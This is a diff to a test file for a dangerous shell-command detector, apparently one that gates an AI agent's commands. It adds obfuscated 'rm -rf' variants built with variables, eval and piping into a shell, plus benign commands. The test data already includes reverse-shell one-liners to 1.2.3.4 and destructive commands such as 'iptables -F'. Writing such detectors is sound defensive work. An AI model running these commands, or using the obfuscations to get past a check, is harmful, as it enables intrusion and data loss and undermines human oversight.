@@ -41,9 +41,14 @@ describe('dangerous-command detection', () => {
     ['systemctl stop nginx', /services/], ['crontab -r', /crontab/], ['iptables -F', /firewall/], ['sudo apt install x', /root/], ['useradd eve', /privilege/],
     ['bash -i >& /dev/tcp/1.2.3.4/4444 0>&1', /reverse shell/], ['nc -e /bin/sh 1.2.3.4 4444', /reverse shell/],
     ['ls && r"m" -r x', /recursive delete/], ['echo $(kill -9 1)', /killing/],
+    // What runs is only known at run time: a human decides (these ran unasked in manual mode).
+    ['r=rm; $r -rf build', /only known when it runs \(\$r\)/], ['"$(printf rm)" -rf build', /only known when it runs/], ['x="rm -rf build"; eval $x', /only known when it runs/],
+    ['x="rm -rf build"; sh -c "$x"', /only known when it runs/], ['bash -c "$(cat job)"', /only known when it runs/],
+    ['printf "rm -rf build" | sh', /shell reading its commands/], ['echo rm -rf build | bash', /shell reading its commands/], ['bash -s < job', /shell reading its commands/],
   ];
   it.each(dangerous)('flags %s', (cmd, why) => expect(dangerousReason(cmd)).toMatch(why));
-  const safe = ['ls -la', 'npm test', 'git status', 'git push origin main', 'cat README.md | grep x', 'python3 -m pytest', 'rm notes.txt', 'echo hi > out.txt', 'curl -s https://example.com -o page.html', 'psql -c "DELETE FROM t WHERE id = 1"', 'mkdir -p a/b'];
+  const safe = ['ls -la', 'npm test', 'git status', 'git push origin main', 'cat README.md | grep x', 'python3 -m pytest', 'rm notes.txt', 'echo hi > out.txt', 'curl -s https://example.com -o page.html', 'psql -c "DELETE FROM t WHERE id = 1"', 'mkdir -p a/b',
+    'sh build.sh', 'bash -e run.sh', 'bash -o pipefail -c "ls | wc -l"', 'sh -c \'echo "$1"\' _ hi', '$HOME/.local/bin/pytest -q', 'ls "$HOME"', 'echo $(date)'];
   it.each(safe)('lets %s run', (cmd) => expect(dangerousReason(cmd)).toBeUndefined());
 });
 
